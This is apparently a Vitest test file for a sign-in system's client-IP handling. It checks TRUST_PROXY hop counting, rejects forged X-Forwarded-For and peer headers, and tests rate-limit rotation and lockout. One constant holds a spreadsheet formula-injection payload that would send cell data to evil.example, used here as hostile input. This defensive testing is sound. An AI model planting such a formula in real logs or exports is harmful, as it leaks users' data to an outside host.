// Item 2 of issue 12: the client address is the socket peer unless TRUST_PROXY says how many proxies of
// our own stand in front; a forged X-Forwarded-For neither reaches the audit log nor rotates past the
// per-address sign-in limit.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientIp, trustedHops } from '@/lib/auth/request-info';
import { checkPassword } from '@/lib/auth/sign-in';
import { db } from '@/lib/db/client';
import { PEER_HEADER, installPeerStamp } from '@/lib/security/peer-address';
import { SIGN_IN_LIMITS } from '@/lib/security/rate-limit';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")';

describe('TRUST_PROXY', () => {
  it('is a hop count; unset, 0 and false trust no proxy; true means one', () => {
    expect([undefined, '', '0', 'false', 'nonsense', '-1', '99'].map(trustedHops)).toEqual([0, 0, 0, 0, 0, 0, 0]);
    expect([trustedHops('1'), trustedHops('true'), trustedHops('2')]).toEqual([1, 1, 2]);
  });
});

describe('clientIp', () => {
  const h = (peer: string | undefined, xff?: string) => new Headers({ ...(peer ? { [PEER_HEADER]: peer } : {}), ...(xff ? { 'x-forwarded-for': xff } : {}) });

  it('without TRUST_PROXY takes only the socket peer, whatever X-Forwarded-For says', () => {
    expect(clientIp(h('192.0.2.1', '203.0.113.9'), 0)).toBe('192.0.2.1');
    expect(clientIp(h('192.0.2.1', FORMULA), 0)).toBe('192.0.2.1');
    expect(clientIp(h('::ffff:192.0.2.1'), 0)).toBe('192.0.2.1');
    expect(clientIp(h(undefined, '203.0.113.9'), 0)).toBeNull();
    expect(clientIp(h('not-an-ip'), 0)).toBeNull();
  });

  it('with TRUST_PROXY=n takes the address n hops from the right, validated as an IP', () => {
    // client → proxy A (appends client) → proxy B (appends A) → app (peer B)
    expect(clientIp(h('10.0.0.2', '198.51.100.7'), 1)).toBe('198.51.100.7');
    expect(clientIp(h('10.0.0.2', 'spoofed, 198.51.100.7, 10.0.0.1'), 2)).toBe('198.51.100.7');
    expect(clientIp(h('10.0.0.2', '1.2.3.4, 198.51.100.7'), 1)).toBe('198.51.100.7');
    expect(clientIp(h('10.0.0.2', `1.2.3.4, ${FORMULA}`), 1)).toBe('10.0.0.2');
    expect(clientIp(h('10.0.0.2', '2001:db8::1'), 1)).toBe('2001:db8::1');
    expect(clientIp(h('10.0.0.2'), 3)).toBe('10.0.0.2');
  });
});

describe('the peer stamp on a real HTTP server', () => {
  let server: http.Server;
  let port: number;
  beforeAll(async () => {
    installPeerStamp();
    server = http.createServer((req, res) => {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ peer: req.headers[PEER_HEADER], ip: clientIp(req.headers, 0) }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('overwrites a forged peer header and ignores a forged X-Forwarded-For', async () => {
    const res = await fetch(`http://127.0.0.1:${port}/`, { headers: { [PEER_HEADER]: '203.0.113.66', 'x-forwarded-for': FORMULA } });
    expect(await res.json()).toEqual({ peer: '127.0.0.1', ip: '127.0.0.1' });
  });
});

describe('forged X-Forwarded-For against sign-in', () => {
  /** The headers `next start` hands a route for a client at `peer` that sends its own X-Forwarded-For. */
  const request = (peer: string, forged: string) => new Headers({ [PEER_HEADER]: peer, 'x-forwarded-for': forged, 'user-agent': 'rotator' });

  it('cannot rotate past the per-address limit, cannot write a formula into the audit log', async () => {
    const peer = '198.18.0.5';
    const results = [];
    for (let i = 0; i < SIGN_IN_LIMITS.perAddress.max + 5; i++) {
      const h = request(peer, i === 0 ? FORMULA : `100.64.${i}.${i}`);
      results.push(await checkPassword(`rotating-${i}@kaiji.test`, 'guess', { ip: clientIp(h, 0), userAgent: 'rotator' }));
    }
    expect(results.slice(SIGN_IN_LIMITS.perAddress.max).every((r) => !r.ok && r.reason === 'throttled')).toBe(true);
    const ips = await db.auditEvent.findMany({ where: { action: 'auth.sign_in', userAgent: 'rotator' }, distinct: ['ip'], select: { ip: true } });
    expect(ips).toEqual([{ ip: peer }]);
  });

  it('cannot lock out someone else’s address', async () => {
    const victim = '198.18.0.9';
    for (let i = 0; i < SIGN_IN_LIMITS.perAddress.max + 1; i++) {
      await checkPassword(`lockout-${i}@kaiji.test`, 'guess', { ip: clientIp(request('198.18.0.10', victim), 0), userAgent: 'rotator' });
    }
    expect(await checkPassword('someone@kaiji.test', 'guess', { ip: clientIp(request(victim, victim), 0), userAgent: 'victim' })).toEqual({ ok: false, reason: 'invalid' });
  });
});
